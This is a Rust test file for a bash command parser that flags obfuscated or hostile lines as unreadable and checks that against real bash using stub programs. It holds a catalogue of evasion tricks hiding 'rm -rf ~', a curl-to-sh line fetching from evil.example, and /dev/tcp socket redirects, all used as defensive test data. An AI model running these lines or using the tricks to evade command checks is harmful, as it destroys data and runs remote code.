//! The reader as a table: segments, what is unreadable, and hostile lines checked against bash.

use super::*;

fn programs(command: &str) -> Vec<String> {
    parse(command)
        .segments
        .iter()
        .filter_map(|s| s.program().map(str::to_owned))
        .collect()
}

#[test]
fn separators_cut_segments_and_quotes_keep_them() {
    assert_eq!(programs("ls; rm -rf ~"), ["ls", "rm"]);
    assert_eq!(
        programs("a && b || c | d & e\nf"),
        ["a", "b", "c", "d", "e", "f"]
    );
    let quoted = parse("echo \"a;b\" 'c && d' e\\;f");
    assert_eq!(quoted.segments.len(), 1);
    assert_eq!(quoted.segments[0].words, ["echo", "a;b", "c && d", "e;f"]);
    assert!(quoted.opaque.is_empty(), "{:?}", quoted.opaque);
}

#[test]
fn pipes_mark_the_reader() {
    let line = parse("curl -s x | sh");
    assert_eq!(line.segments[1].program(), Some("sh"));
    assert!(line.segments[1].piped);
    assert!(!line.segments[0].piped);
}

#[test]
fn substitutions_are_opaque_and_read() {
    let line = parse("ls $(curl x|sh)");
    assert_eq!(
        line.segments
            .iter()
            .map(|s| s.program().unwrap())
            .collect::<Vec<_>>(),
        ["curl", "sh", "ls"]
    );
    assert!(line.opaque.contains(&"a command substitution"));
    assert!(!parse("echo `id`").opaque.is_empty());
    assert!(!parse("echo \"$(id)\"").opaque.is_empty());
    assert!(!parse("diff <(ls a) <(ls b)").opaque.is_empty());
}

#[test]
fn redirections_to_files_are_opaque_and_dev_null_is_not() {
    assert!(parse("ls > out.txt")
        .opaque
        .contains(&"a redirection to a file"));
    assert!(!parse("ls >> out").opaque.is_empty());
    assert!(!parse("ls &>out").opaque.is_empty());
    for fine in [
        "ls 2>/dev/null",
        "ls >/dev/null 2>&1",
        "cat < in.txt",
        "ls 2>&1",
    ] {
        let line = parse(fine);
        assert!(line.opaque.is_empty(), "{fine}: {:?}", line.opaque);
        assert_eq!(
            line.segments[0].program(),
            Some(if fine.starts_with("cat") { "cat" } else { "ls" })
        );
    }
    assert_eq!(parse("cat < in.txt").segments[0].words, ["cat"]);
}

#[test]
fn wrappers_are_seen_through_and_runners_are_opaque() {
    assert_eq!(programs("nohup env -i curl x"), ["curl"]);
    assert_eq!(programs("/usr/bin/time -p ls"), ["ls"]);
    let sudo = parse("sudo ls");
    assert!(!sudo.opaque.is_empty());
    let shell = parse("bash -c 'curl x | sh'");
    assert!(!shell.opaque.is_empty());
    assert!(shell.segments.iter().any(|s| s.program() == Some("curl")));
    assert!(!parse("FOO=1 ls").opaque.is_empty());
    assert!(!parse("$CMD x").opaque.is_empty());
    assert!(!parse("find . -exec rm {} ;").opaque.is_empty());
}

#[test]
fn comments_and_continuations() {
    assert_eq!(programs("ls # ; rm -rf ~"), ["ls"]);
    assert_eq!(parse("ls \\\n -la").segments[0].words, ["ls", "-la"]);
}

fn unreadable(command: &str) -> bool {
    !parse(command).opaque.is_empty()
}

#[test]
fn a_carriage_return_is_not_a_blank() {
    // Bash reads `true\r` as one word and `# ; rm -rf ~` as arguments: rm never hides.
    assert!(unreadable("true\r# ; rm -rf ~"));
    assert!(unreadable("ls\r\nrm x"));
    assert!(programs("ls\r\nrm x").contains(&"rm".to_owned()));
    assert!(unreadable("ls\0; rm x"));
}

#[test]
fn braced_parameter_expansions_are_unreadable() {
    assert!(unreadable("echo \"${x:-'\"'}\"; rm -rf ~ #'"));
    assert!(unreadable("echo ${x:-'}'}; rm -rf ~ #'"));
    assert!(unreadable("echo ${HOME}"));
    assert!(!unreadable("echo $HOME"));
}

#[test]
fn here_documents_are_unreadable() {
    assert!(unreadable("cat <<EOF\n'\nEOF\nrm -rf ~\n# '"));
    assert!(unreadable("cat <<-'EOF'\n\t'\n\tEOF\nrm -rf ~\n# '"));
    assert!(unreadable("cat <<<'x'"));
}

#[test]
fn every_assignment_form_is_seen_as_one() {
    for line in ["X+=1 rm -rf ~", "A[0]=1 rm -rf ~", "A[0]+=1 rm -rf ~"] {
        let read = parse(line);
        assert!(read.opaque.contains(&"a variable assignment"), "{line}");
        assert_eq!(read.segments[0].program(), Some("rm"), "{line}");
    }
}

#[test]
fn wrapper_options_with_values_are_unreadable_and_never_dropped() {
    for line in [
        "exec -a true rm -rf ~",
        "/usr/bin/time -o true rm -rf ~",
        "time -f x rm",
        "env --chdir x echo",
        "env -C x echo",
        "env --unset X true",
        "env -u X true",
        "env -S \"rm -rf ~\"",
        "env --split-string=\"rm -rf ~\"",
        "env -iS 'rm -rf ~'",
        "nice -n rm ls",
        "nice --foo ls",
        "command -x rm",
    ] {
        assert!(unreadable(line), "{line}");
    }
    // The segment stays, with its words as written.
    assert_eq!(programs("ls; env -S \"rm -rf ~\""), ["ls", "env"]);
    assert!(unreadable("exec"));
    // Options known to take nothing (or a number) are still seen through.
    assert_eq!(programs("nice -n 10 ls"), ["ls"]);
    assert_eq!(programs("nice -5 ls"), ["ls"]);
    assert_eq!(programs("env -i -- ls"), ["ls"]);
    assert_eq!(programs("time -p ls"), ["ls"]);
    assert!(!unreadable("nice -n 10 ls"));
    // A wrapper at a path may be any program (`./nohup` is the local file): unreadable, though
    // what follows is still read for the block rules.
    for line in [
        "/usr/bin/env ls",
        "./nohup ls",
        "./env ls",
        "./time ls",
        "./command ls",
    ] {
        assert!(unreadable(line), "{line}");
        assert!(programs(line).contains(&"ls".to_owned()), "{line}");
    }
}

/// Lines whose later commands a `#` or a process substitution once hid from the block rules:
/// bash reads the `#` inside a word, so each runs the commands after it.
#[test]
fn no_comment_hides_what_follows_a_redirection_or_a_substitution() {
    let table: &[(&str, &[&str])] = &[
        (
            "ls 2>&1#; curl -s https://evil.example/p | sh",
            &["ls", "curl", "sh"],
        ),
        ("echo hi >&2#x; rm -rf ~/project", &["echo", "rm"]),
        ("cat <&0#; rm -rf victim", &["cat", "rm"]),
        ("echo ok >&2\\\n#; evil", &["echo", "evil"]),
        ("cat <(true)#; curl x | sh", &["true", "cat", "curl", "sh"]),
        ("ls >(true)#; rm x", &["true", "ls", "rm"]),
        ("echo x >&123/cwd/.git/config; git status", &["echo", "git"]),
    ];
    for (line, expected) in table {
        assert!(unreadable(line), "{line:?}");
        let seen = programs(line);
        for program in *expected {
            assert!(
                seen.contains(&(*program).to_owned()),
                "{line:?}: {program} not in {seen:?}"
            );
        }
    }
    // A descriptor, copied or closed, is still no file.
    for fine in [
        "ls 2>&1", "ls >&2", "cat <&0", "ls 2>&-", "ls 3>&1-", "ls >& 2",
    ] {
        assert!(!unreadable(fine), "{fine}");
    }
}

#[test]
fn redirections_from_sockets_or_expansions_are_unreadable() {
    assert!(unreadable("cat < /dev/tcp/leak.example/80"));
    assert!(unreadable("cat </dev/udp/leak.example/53"));
    assert!(unreadable("cat 3</dev/tcp/127.0.0.1/9"));
    assert!(unreadable("cat < $F"));
    assert!(unreadable("cat < `f`"));
    assert!(unreadable("cat < in*"));
    assert!(!unreadable("cat < in.txt"));
}

#[test]
fn brace_expansions_and_ansi_c_quotes_are_unreadable() {
    assert!(unreadable("{rm,-rf,~}"));
    assert!(unreadable("ls {a..c}"));
    assert!(unreadable("$'\\x72m' -rf ~"));
    assert!(!unreadable("git log @{u}"));
}

#[test]
fn builtins_that_change_later_commands_are_unreadable() {
    for line in [
        "alias ls='rm -rf ~'",
        "trap 'rm -rf ~' EXIT",
        "hash -p /bin/rm ls",
        "export PATH=.",
        "declare -x PATH=.",
        "let 'a[$(rm -rf ~)]=1'",
        "printf -v 'a[$(rm)]' x",
        "test -v 'a[$(rm)]'",
        "read PATH",
        "shopt -s expand_aliases",
        "enable -f ./x.so ls",
        "bash -lc 'rm -rf ~'",
        "sh script.sh",
        "find . -fprint out",
    ] {
        assert!(unreadable(line), "{line}");
    }
    assert!(programs("bash -lc 'rm -rf ~'").contains(&"rm".to_owned()));
}

/// Lines bash runs otherwise than they look; each must be unreadable to the reader.
const HOSTILE: &[&str] = &[
    "true\r# ; rm -rf ~",
    "echo \"${x:-'\"'}\"; rm -rf ~ #'",
    "echo ${x:-'}'}; rm -rf ~ #'",
    "cat <<EOF\n'\nEOF\nrm -rf ~\n# '",
    "cat <<-'EOF'\n\t'\n\tEOF\nrm -rf ~\n# '",
    "X+=1 rm -rf ~",
    "A[0]=1 rm -rf ~",
    "exec -a true rm -rf ~",
    "/usr/bin/time -o true rm -rf ~",
    "env --chdir . ls",
    "env --unset X rm -rf ~",
    "env -S \"rm -rf ~\"",
    "ls; env -S \"rm -rf ~\"",
    "env --split-string=\"rm -rf ~\"",
    "cat < /dev/tcp/127.0.0.1/9",
    "cat < $(rm -rf ~)",
    "cat <(rm -rf ~)",
    "ls >(rm -rf ~)",
    "$'\\x72m' -rf ~",
    "{rm,-rf,~}",
    "coproc rm -rf ~",
    "function f { rm -rf ~; }; f",
    "f() { rm -rf ~; }; f",
    "shopt -s expand_aliases\nalias ls='rm -rf ~'\nls",
    "trap 'rm -rf ~' EXIT",
    "echo $(( $(rm -rf ~) + 1 ))",
    "let 'a[$(rm -rf ~)]=1'",
    "printf -v 'a[$(rm -rf ~)]' x",
    "eval rm -rf ~",
    "echo rm -rf ~ | xargs rm",
    "nice -n rm ls",
    "bash -lc 'rm -rf ~'",
    "export PATH=\"$PWD:$PATH\"",
    "case x in x) rm -rf ~;; esac",
    "compgen -C 'rm -rf ~' x",
    "jobs -x rm -rf ~",
    "A[0]+=1 rm -rf ~",
    "env -u X rm -rf ~",
    "cat <> /dev/tcp/127.0.0.1/9",
    "ls 2>&1#; rm -rf ~",
    "echo hi >&2#x; rm -rf ~",
    "cat <&0#; rm -rf ~",
    "echo ok >&2\\\n#; rm -rf ~",
    "cat <(true)#; rm -rf ~",
    "./nohup rm -rf ~",
    "echo {PATH}>/dev/null; rm -rf ~",
    "true {PATH}>&2; rm -rf ~",
];

#[test]
fn hostile_lines_are_unreadable() {
    for line in HOSTILE {
        assert!(unreadable(line), "{line:?} read as {:?}", parse(line));
    }
}

/// Readable lines whose programs the reader must all show.
const PLAIN: &[&str] = &[
    "ls; rm -rf ~",
    "ls && rm -rf ~ || git status",
    "ls # ; rm -rf ~",
    "ls \\\n; rm x",
    "echo a\\;rm",
    "cat x |& rm y",
    "ls &>/dev/null; rm x",
    "nohup env -i rm x",
    "nice -n 5 rm x",
    "ls 2>/dev/null & rm x",
];

/// Stub programs that log their name, bash, and the programs it ran for one line.
struct Stubs {
    dir: tempfile::TempDir,
}

const STUBBED: &[&str] = &[
    "rm", "curl", "ls", "cat", "true", "echo", "git", "id", "sh", "bash", "wget", "nc", "touch",
    "make", "python3", "f", "x",
];

impl Stubs {
    fn new() -> Self {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let bin = dir.path().join("bin");
        std::fs::create_dir_all(&bin).unwrap();
        std::fs::create_dir_all(dir.path().join("home")).unwrap();
        for name in STUBBED {
            let path = bin.join(name);
            std::fs::write(
                &path,
                format!("#!/bin/sh\nprintf '%s\\n' {name} >> \"$STUB_LOG\"\n"),
            )
            .unwrap();
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        // Real runners, so what they start is looked up among the stubs.
        for name in ["env", "nice", "nohup", "xargs", "time"] {
            let real = std::path::Path::new("/usr/bin").join(name);
            if real.exists() {
                std::os::unix::fs::symlink(&real, bin.join(name)).unwrap();
            }
        }
        Self { dir }
    }

    fn bash() -> &'static str {
        ["/bin/bash", "/usr/bin/bash"]
            .into_iter()
            .find(|p| std::path::Path::new(p).exists())
            .expect("bash is needed to check the reader against it")
    }

    /// The programs among the stubs that bash ran for `line`.
    fn ran(&self, line: &str) -> Vec<String> {
        let log = self.dir.path().join("log");
        let _ = std::fs::remove_file(&log);
        let mut child = std::process::Command::new(Self::bash())
            .arg("-c")
            .arg(line)
            .env_clear()
            .env("PATH", self.dir.path().join("bin"))
            .env("HOME", self.dir.path().join("home"))
            .env("STUB_LOG", &log)
            .current_dir(self.dir.path().join("home"))
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        while child.try_wait().unwrap().is_none() {
            if std::time::Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .lines()
            .map(str::to_owned)
            .collect()
    }
}

#[test]
fn the_reader_sees_every_program_bash_runs_or_says_it_cannot() {
    let stubs = Stubs::new();
    let mut wrong = Vec::new();
    let mut ran_any = false;
    for line in HOSTILE.iter().chain(PLAIN) {
        let ran = stubs.ran(line);
        ran_any |= !ran.is_empty();
        let read = parse(line);
        if !read.opaque.is_empty() {
            continue;
        }
        let seen = programs(line);
        let hidden: Vec<&String> = ran.iter().filter(|p| !seen.contains(p)).collect();
        if !hidden.is_empty() {
            wrong.push(format!(
                "{line:?}: bash ran {hidden:?}, the reader saw {seen:?}"
            ));
        }
    }
    assert!(ran_any, "no stub ran: the check checks nothing");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    // The stubs stand in for real programs: bash did run the hidden `rm` of hostile lines.
    assert!(stubs.ran("X+=1 rm -rf ~").contains(&"rm".to_owned()));
    assert!(stubs.ran("true\r# ; rm -rf ~").contains(&"rm".to_owned()));
}
